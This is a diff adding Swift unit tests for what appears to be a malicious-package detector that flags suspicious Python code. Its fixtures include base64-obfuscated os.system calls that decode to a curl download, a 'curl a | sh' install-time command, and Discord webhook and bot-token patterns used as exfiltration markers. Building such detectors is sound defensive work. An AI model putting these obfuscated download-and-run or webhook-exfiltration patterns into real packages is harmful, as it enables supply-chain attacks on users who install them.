@@ -83,6 +83,54 @@ struct ObserverTests {
     check("import base64, os\nos.system(base64.b64decode('YQ==').decode())", shows: .hidesCommand)
   }
 
+  @Test func encodedConstantsAreReadOut() {
+    check(
+      "import base64, os\ndef f():\n  os.system(base64.b64decode('Y3VybCBodHRwczovL2EuaW52YWxpZC8=').decode())",
+      shows: .runsDownloadCommand, detail: "curl https://a.invalid/")
+    check("import os\nos.system(''.join(chr(c) for c in [99, 97, 108, 99, 46, 101, 120, 101]))", shows: .hidesCommand)
+  }
+
+  @Test func laterSourcesDoNotFlowBack() {
+    let source = """
+      import base64
+      NAME = "a"
+      exec(NAME + ".b()")
+      def later(x):
+          global NAME
+          NAME = base64.b64decode(x).decode()
+      """
+    let seen = seen(source).first { $0.behavior == .executesCode }
+    #expect(seen?.runsAt == .import)
+    #expect(seen?.sources.contains(.decodes) == false)
+  }
+
+  @Test func letterBoxesHaveNumbers() {
+    #expect(seen("X = 'https://discord.com/api/webhooks/000000000000/a'").contains { $0.subject == "letter-box" })
+    #expect(seen("X = 'https://discord.com/api/webhooks/'").contains { $0.subject == "webhook" })
+    #expect(seen("X = '000000000:\(String(repeating: "a", count: 35))'").contains { $0.subject == "letter-box" })
+    #expect(!seen("X = '00:\(String(repeating: "a", count: 42))'").contains { $0.subject == "letter-box" })
+  }
+
+  @Test func programsOfBuildingAreKnown() {
+    check("import os\nos.system('/usr/bin/git tag')", doesNotShow: .startsUnknownProgram)
+    check("import os\nos.system('cmd /c start a.exe')", shows: .startsUnknownProgram, detail: "a.exe")
+    check("import subprocess\nsubprocess.run([x, 'a'])", doesNotShow: .startsUnknownProgram)
+    check(
+      "import os, subprocess\np = os.path.join(d, 'a.exe')\nsubprocess.run([p])", shows: .spawnsProcess,
+      detail: "?/a.exe")
+  }
+
+  @Test func programsInTextsAreSeen() {
+    check("open('a', 'w').write('import os, sys\\nos.system(sys.argv[1] + sys.argv[2])')", shows: .carriesProgram)
+    check("open('a', 'w').write('version = 1, and a longer line of words')", doesNotShow: .carriesProgram)
+  }
+
+  @Test func commandsOfLayersAreRead() {
+    let found = Observers.observe(
+      command: Array("curl a | sh".utf8), in: "setup.py", layer: 1, runsAt: .install, catalogue: catalogue)
+    #expect(found.contains { $0.behavior == .runsDownloadCommand && $0.location.layer == 1 && $0.runsAt == .install })
+  }
+
   @Test func textsAreFoundInConstantsOnly() {
     check("X = 'https://a.oastify.com/'", shows: .namesHost, detail: "oastify")
     check("X = 'https://a.oas' + 'tify.com/'", shows: .namesHost)
